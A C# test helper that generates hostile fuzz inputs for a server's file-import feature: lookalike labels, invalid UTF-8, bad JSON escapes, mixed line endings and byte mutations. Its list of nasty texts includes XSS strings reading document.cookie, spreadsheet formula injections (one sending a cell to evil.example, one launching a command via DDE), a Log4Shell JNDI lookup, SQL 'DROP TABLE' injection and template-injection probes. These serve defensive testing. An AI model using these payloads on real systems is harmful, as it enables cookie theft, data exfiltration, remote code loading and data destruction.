using System.Text;

namespace Tagloop.Server.Tests.Import;

/// <summary>
/// The raw material of hostile files: texts that are valid Unicode but nasty (markup, formulas, bidi overrides,
/// emoji cut points), byte sequences that are not UTF-8, JSON escapes that smuggle invalid text, and the ways a
/// file's lines may be joined.
/// </summary>
internal static class HostileSnippets
{
    /// <summary>The fuzzed project's labels.</summary>
    public static readonly string[] Labels = ["spam", "ham", "Café ☕", "=SUM(A1)", "<b>bold</b>", "😀 emoji"];

    /// <summary>Names that look like labels but are not the project's (or differ only in case, which matches).</summary>
    public static readonly string[] LabelLookalikes =
    [
        "SPAM", " spam ", "café ☕", "spam\u200B", "sp\u0430m", "unknown", "", " ", "spam|ham", "spam,ham",
        new string('l', 101), new string('m', 3000), "😀", "\u202Espam", "<script>alert(1)</script>", "=SUM(A1)\t",
    ];

    public static readonly string[] NastyTexts =
    [
        "Buy cheap pills now",
        "Meeting at 10, see you",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "</textarea><svg/onload=alert(1)>",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "=1+2",
        "+SUM(A1:A9)",
        "-2+3",
        "@SUM(1)",
        "=cmd|' /C calc'!A0",
        "\tleading tab",
        "\u202Etxt.exe",
        "abc\u2066isolate\u2069def",
        "\u200F\u05E9\u05DC\u05D5\u05DD right to left",
        "emoji 😀 family 👩‍👩‍👧 flag 🇫🇷",
        "e\u0301\u0301\u0301\u0301 combining",
        "Z\u0324\u0354\u0367\u0311\u0313algo",
        "\uFEFFbom inside",
        "line\u2028separator\u2029paragraph",
        "quote \" and backslash \\ and slash /",
        "comma, semicolon; pipe | tab\tend",
        "'; DROP TABLE Documents; --",
        "%_\\[]^*?",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}} <%= 7*7 %>",
        "noncharacters \uFFFE\uFFFF",
        "last code point \U0010FFFF",
        "\u0130\u0131 \u00DF \uFB01 case folding",
        "\u00A0no-break\u3000ideographic space",
        "\uFF21\uFF22\uFF23 fullwidth",
        "next line \u0085 control",
        "\u65E5\u672C\u8A9E\u306E\u30C6\u30AD\u30B9\u30C8",
        "\u0645\u0631\u062D\u0628\u0627",
        "bell \u0007 escape \u001B[31mred\u001B[0m",
        "null-ish: null undefined NaN",
        "\"quoted\"",
        "a\rb",
        "multi\nline\ntext",
    ];

    /// <summary>Byte sequences that are not UTF-8.</summary>
    public static readonly byte[][] InvalidUtf8 =
    [
        [0x80], [0xBF], [0x80, 0x80], [0xC0, 0xAF], [0xC1, 0xBF], [0xE0, 0x80, 0xAF], [0xF0, 0x80, 0x80, 0xAF],
        [0xED, 0xA0, 0x80], [0xED, 0xBF, 0xBF], [0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80], [0xE2, 0x82], [0xF0, 0x9F, 0x98],
        [0xC3], [0xFF], [0xFE], [0xFE, 0xFF], [0xF5, 0x80, 0x80, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80],
    ];

    /// <summary>Raw control bytes (NUL first).</summary>
    public static readonly byte[][] ControlBytes = [[0x00], [0x00, 0x00], [0x01], [0x07], [0x08], [0x0B], [0x0C], [0x1B], [0x1F], [0x7F]];

    /// <summary>JSON escapes that decode to text that is not valid Unicode, or to NUL.</summary>
    public static readonly string[] BadEscapes =
    [
        "\\ud800", "\\udc00", "\\udbff", "\\udfff", "\\uD800", "\\udc00\\ud800", "\\ud83d", "\\ud83d\\u0041",
        "\\ud800\\ud800", "\\ude00\\ud83d", "\\u0000", "\\u0000\\u0000", "a\\u0000b", "\\ud83d\\ude00\\udc00",
    ];

    /// <summary>JSON escapes that are fine: a pair, a BMP character, an escaped backslash before "ud800".</summary>
    public static readonly string[] GoodEscapes =
    [
        "\\ud83d\\ude00", "\\u00e9", "\\u2028", "\\ufeff", "\\uffff", "\\udbff\\udfff", "\\/", "\\b\\f\\n\\r\\t", "\\\\ud800", "\\\\u0000",
    ];

    /// <summary>Escapes that make the JSON invalid.</summary>
    public static readonly string[] BrokenEscapes = ["\\u12", "\\x41", "\\U0041", "\\ud8", "\\q", "\\u{1F600}"];

    public static T Pick<T>(this Random random, IReadOnlyList<T> items) => items[random.Next(items.Count)];

    public static bool Chance(this Random random, int percent) => random.Next(100) < percent;

    public static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    /// <summary>A valid but nasty text; usually made unique so that it is imported rather than skipped as a duplicate.</summary>
    public static string Text(Random random)
    {
        var text = random.Next(10) switch
        {
            0 => random.Pick(NastyTexts) + " " + random.Pick(NastyTexts),
            1 => LongText(random, random.Next(300, 1200)),
            _ => random.Pick(NastyTexts),
        };
        return random.Chance(85) ? $"{text} #{random.Next(1_000_000)}" : text;
    }

    /// <summary>A long mix of ASCII, emoji and CJK, so that cut points (previews, limits) can fall inside a surrogate pair.</summary>
    public static string LongText(Random random, int length)
    {
        var builder = new StringBuilder(length + 2);
        if (random.Chance(50))
        {
            builder.Append('x');
        }

        while (builder.Length < length)
        {
            builder.Append(random.Next(4) switch
            {
                0 => "😀",
                1 => "\u6F22",
                2 => "e\u0301",
                _ => "word ",
            });
        }

        return builder.ToString();
    }

    public static byte[] RandomBytes(Random random, int length, bool newlines)
    {
        var bytes = new byte[length];
        random.NextBytes(bytes);
        if (!newlines)
        {
            for (var i = 0; i < bytes.Length; i++)
            {
                if (bytes[i] is (byte)'\n' or (byte)'\r')
                {
                    bytes[i] = (byte)' ';
                }
            }
        }

        return bytes;
    }

    /// <summary>Something that is not valid text: a control byte, an invalid UTF-8 sequence or random bytes.</summary>
    public static byte[] BadBytes(Random random) => random.Next(3) switch
    {
        0 => random.Pick(ControlBytes),
        1 => random.Pick(InvalidUtf8),
        _ => RandomBytes(random, random.Next(1, 12), newlines: false),
    };

    /// <summary>Joins lines with \n, \r\n, a lone \r or a mix; maybe a BOM first, blank lines between, no final newline.</summary>
    public static byte[] JoinLines(Random random, IReadOnlyList<byte[]> lines)
    {
        byte[][] endings = [[(byte)'\n'], [(byte)'\r', (byte)'\n'], [(byte)'\r']];
        var mode = random.Next(5);
        var output = new List<byte>();
        if (random.Chance(15))
        {
            output.AddRange([0xEF, 0xBB, 0xBF]);
        }

        for (var i = 0; i < lines.Count; i++)
        {
            output.AddRange(lines[i]);
            var ending = mode < 3 ? endings[mode] : random.Pick(endings);
            if (i < lines.Count - 1 || random.Chance(70))
            {
                output.AddRange(ending);
            }

            if (random.Chance(5))
            {
                output.AddRange(Utf8(random.Pick(new[] { "", " ", "\t", "  \t ", "\u00A0", "\u3000" })));
                output.AddRange(ending);
            }
        }

        return [.. output];
    }

    /// <summary>A valid file made worse: bytes flipped, inserted, deleted, duplicated, or the file cut short.</summary>
    public static (byte[] Body, string Recipe) Mutate(Random random, byte[] valid)
    {
        var bytes = new List<byte>(valid);
        var steps = new List<string>();
        var count = random.Next(1, 9);
        for (var i = 0; i < count; i++)
        {
            var at = bytes.Count == 0 ? 0 : random.Next(bytes.Count);
            switch (random.Next(7))
            {
                case 0 when bytes.Count > 0:
                    bytes[at] ^= (byte)(1 << random.Next(8));
                    steps.Add($"flip@{at}");
                    break;
                case 1 when bytes.Count > 0:
                    bytes[at] = (byte)random.Next(256);
                    steps.Add($"set@{at}");
                    break;
                case 2:
                    var inserted = random.Chance(50) ? BadBytes(random) : Utf8(random.Pick(new[] { "\"", "\\", "{", "}", ",", "\n", "\r", "\r\n", "[", "]", ":", "\\u", "\\ud800" }));
                    bytes.InsertRange(at, inserted);
                    steps.Add($"insert{inserted.Length}@{at}");
                    break;
                case 3 when bytes.Count > 0:
                    var length = Math.Min(bytes.Count - at, random.Next(1, 16));
                    bytes.RemoveRange(at, length);
                    steps.Add($"delete{length}@{at}");
                    break;
                case 4 when bytes.Count > 0:
                    var span = Math.Min(bytes.Count - at, random.Next(1, 64));
                    bytes.InsertRange(random.Next(bytes.Count), bytes.GetRange(at, span));
                    steps.Add($"duplicate{span}@{at}");
                    break;
                case 5 when bytes.Count > 0:
                    bytes.RemoveRange(at, bytes.Count - at);
                    steps.Add($"truncate@{at}");
                    break;
                default:
                    bytes.Insert(at, (byte)random.Next(256));
                    steps.Add($"byte@{at}");
                    break;
            }
        }

        return ([.. bytes], "mutated(" + string.Join(" ", steps) + ")");
    }
}
